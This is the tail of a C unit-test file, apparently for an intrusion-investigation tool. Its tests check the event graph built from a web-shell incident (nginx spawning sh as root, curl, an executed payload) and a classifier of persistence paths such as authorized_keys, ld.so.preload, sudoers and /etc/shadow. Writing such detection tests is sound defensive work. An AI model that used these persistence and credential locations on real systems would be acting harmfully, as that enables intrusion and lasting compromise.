		}
	assert_int_equal(group, 2);
	for (size_t i = 0; i < g->n_edges; i++) {
		const struct hn_gedge *e = &g->edges[i];
		if (g->nodes[e->to].kind == HN_GNODE_FILES)
			assert_int_equal(e->count, g->nodes[e->to].count);
		if (g->nodes[e->to].entity == E_CURL && !strcmp(e->action, "started"))
			curl++;
		if (g->nodes[e->to].entity == E_SH && !strcmp(e->action, "started"))
			sh++;
		if (g->nodes[e->to].entity == E_SH && !strcmp(e->action, "ran as"))
			user++;
		for (size_t j = 0; j < i; j++)
			assert_false(g->edges[j].from == e->from && g->edges[j].to == e->to &&
				     !strcmp(g->edges[j].action, e->action));
	}
	assert_int_equal(curl, 1);
	assert_int_equal(sh, 1);   /* nginx started it */
	assert_int_equal(user, 1); /* as root (uid 0): the user node */
	x = gnode(g, HN_GNODE_USER, 0, "root");
	assert_non_null(x);
	/* the delivered file -> the process that ran it, on the path */
	{
		bool ran = false;
		for (size_t i = 0; i < g->n_edges; i++) {
			const struct hn_gedge *e = &g->edges[i];
			ran |= !strcmp(e->action, "executed") && e->path &&
			       g->nodes[e->to].entity == E_PAYLOAD &&
			       g->nodes[e->from].detail && !strcmp(g->nodes[e->from].detail, "/tmp/x/p");
		}
		assert_true(ran);
	}
	hn_graph_free(g);
	hn_story_free(st);
}

static void test_persistence_points(void **state)
{
	static const struct {
		const char *path, *kind;
	} cases[] = {
		{ "/etc/crontab", "cron" }, { "/etc/cron.d/x", "cron" },
		{ "/var/spool/cron/crontabs/root", "cron" }, { "/var/spool/cron/atjobs/a1", "at" },
		{ "/etc/systemd/system/x.service", "systemd" },
		{ "/home/u/.config/systemd/user/x.timer", "systemd" },
		{ "/root/.bashrc", "shell_rc" }, { "/home/u/.profile", "shell_rc" },
		{ "/etc/profile.d/x.sh", "shell_rc" },
		{ "/root/.ssh/authorized_keys", "authorized_keys" },
		{ "/etc/ld.so.preload", "ld_preload" }, { "/etc/sudoers.d/x", "sudoers" },
		{ "/etc/pam.d/sshd", "pam" }, { "/etc/shadow", "passwd" },
		{ "/etc/modules-load.d/x.conf", "kernel_module" },
		{ "/etc/hostname", NULL }, { "/tmp/.bashrc.bak", NULL }, { "relative/.bashrc", NULL },
		{ "/home/u/.ssh/known_hosts", NULL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *k = hn_inv_persist_kind(cases[i].path);
		if (!cases[i].kind)
			assert_null(k);
		else if (!k || strcmp(k, cases[i].kind))
			fail_msg("%s: %s, want %s", cases[i].path, k ? k : "NULL", cases[i].kind);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_root_cause_of_a_web_shell),
		cmocka_unit_test(test_scope_of_a_web_shell),
		cmocka_unit_test(test_other_entries),
		cmocka_unit_test(test_path_subject_and_alert_step),
		cmocka_unit_test(test_incidents_group_alerts_by_root),
		cmocka_unit_test(test_graph),
		cmocka_unit_test(test_graph_roles),
		cmocka_unit_test(test_persistence_points),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
